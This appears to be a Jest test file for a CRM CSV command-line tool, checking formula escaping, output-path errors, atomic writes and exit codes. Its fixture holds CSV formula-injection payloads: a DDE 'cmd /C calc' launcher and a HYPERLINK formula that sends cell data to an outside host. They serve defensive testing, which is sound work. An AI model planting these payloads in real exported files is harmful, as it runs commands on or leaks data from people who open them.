import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { runCli, scratchFolder } from './cliHarness';

const files = scratchFolder('crm-output-');

const HOSTILE_IDS = `customer,date,amount
"=HYPERLINK(""http://x/?""&A1,""click"")",2024-01-05,10
+cmd|' /C calc'!A0,2024-01-06,20
-2+3+cmd|' /C calc'!A0,2024-01-07,30
@SUM(1),2024-01-08,40
plain,2024-01-10,-60
plain,2024-01-09,5
`;

describe('what the command writes, and where', () => {
  test('customer ids that Excel would run as formulas are written with a leading quote; numbers stay numbers', async () => {
    const { code, stdout } = await runCli(['segment', files.write('hostile.csv', HOSTILE_IDS)]);
    expect(code).toBe(0);
    const firstFields = stdout
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => (line.startsWith('"') ? line.slice(0, line.indexOf('",') + 1) : line.split(',')[0]));
    expect(firstFields.sort()).toEqual(
      [
        `"'=HYPERLINK(""http://x/?""&A1,""click"")"`,
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1)",
        'plain',
      ].sort(),
    );
    // (Ids are trimmed, so a leading tab or CR never reaches the output; toCsv's own test covers them.)
    // The customer with a net value of −55 keeps a numeric −55 in monetary, not '−55.
    expect(stdout).toMatch(/\nplain,2024-01-09,2024-01-09,[^\n]*,-55,/);
  });

  test('--no-escape-formulas writes the ids as they are, for programs that read the CSV', async () => {
    const { code, stdout } = await runCli([
      'segment',
      files.write('hostile2.csv', HOSTILE_IDS),
      '--no-escape-formulas',
    ]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/\n@SUM\(1\),/);
    expect(stdout).not.toMatch(/'@SUM/);
  });

  test.each(['segment', 'cohorts'])(
    '%s: --out naming the input file is refused before anything is written, and the data is kept',
    async (command) => {
      const input = files.write(`orders-${command}.csv`, 'customer,date,amount\nA,2024-01-05,10\n');
      const sameFileOtherSpelling = path.join(path.dirname(input), '.', `orders-${command}.csv`);
      const { code, stderr } = await runCli([command, input, '--out', sameFileOtherSpelling]);
      expect(code).toBe(2);
      expect(stderr).toMatch(/is the input file/);
      expect(readFileSync(input, 'utf8')).toBe('customer,date,amount\nA,2024-01-05,10\n');
    },
  );

  test('--out in a folder that does not exist, or naming a folder, fails with exit 3 and a message', async () => {
    const input = files.write('o2.csv', 'customer,date,amount\nA,2024-01-05,10\n');
    const missing = await runCli(['segment', input, '--out', path.join(files.folder(), 'nowhere', 'x.csv')]);
    expect(missing.code).toBe(3);
    expect(missing.stderr).toMatch(/the folder .*nowhere does not exist/);
    const folder = await runCli(['segment', input, '--out', files.folder()]);
    expect(folder.code).toBe(3);
    expect(folder.stderr).toMatch(/is a folder; give a file name/);
  });

  test('a read-only output folder is found before computing (exit 3)', async () => {
    if (process.getuid?.() === 0) return; // root writes anywhere: nothing to check there
    const locked = path.join(files.folder(), 'locked');
    mkdirSync(locked);
    chmodSync(locked, 0o500);
    const input = files.write('o3.csv', 'customer,date,amount\nA,2024-01-05,10\n');
    const { code, stderr } = await runCli(['segment', input, '--out', path.join(locked, 'x.csv')]);
    chmodSync(locked, 0o700);
    expect(code).toBe(3);
    expect(stderr).toMatch(/is not writable/);
  });

  test('a run that fails leaves the previous --out file as it was, and no temporary file behind', async () => {
    const out = files.write('kept.csv', 'last week\n');
    const broken = files.write('broken.csv', 'customer,date,amount\nA,not a date,10\n');
    const { code } = await runCli(['segment', broken, '--out', out]);
    expect(code).toBe(1);
    expect(readFileSync(out, 'utf8')).toBe('last week\n');
    const good = files.write('good.csv', 'customer,date,amount\nA,2024-01-05,10\n');
    expect((await runCli(['segment', good, '--out', out])).code).toBe(0);
    expect(readFileSync(out, 'utf8')).toMatch(/^customer_id,/);
    expect(readdirSync(files.folder()).filter((name) => name.endsWith('.partial'))).toEqual([]);
  });

  test('a folder given as the input file ends with a message and exit 1, no stack trace', async () => {
    const { code, stderr } = await runCli(['segment', files.folder()]);
    expect(code).toBe(1);
    expect(stderr).toMatch(/is a folder, not a CSV file/);
    expect(stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(files.folder())).toBe(true);
  });

  test('the help of every command shows the one exit-code table', async () => {
    for (const command of ['segment', 'fit', 'cohorts']) {
      const { stdout } = await runCli([command, '--help']);
      expect(stdout).toMatch(
        /Exit codes:\n {2}0 {2}done\n {2}1 {2}the input cannot be used[\s\S]*\n {2}2 {2}usage error[\s\S]*\n {2}3 {2}the output cannot be written/,
      );
    }
  });
});
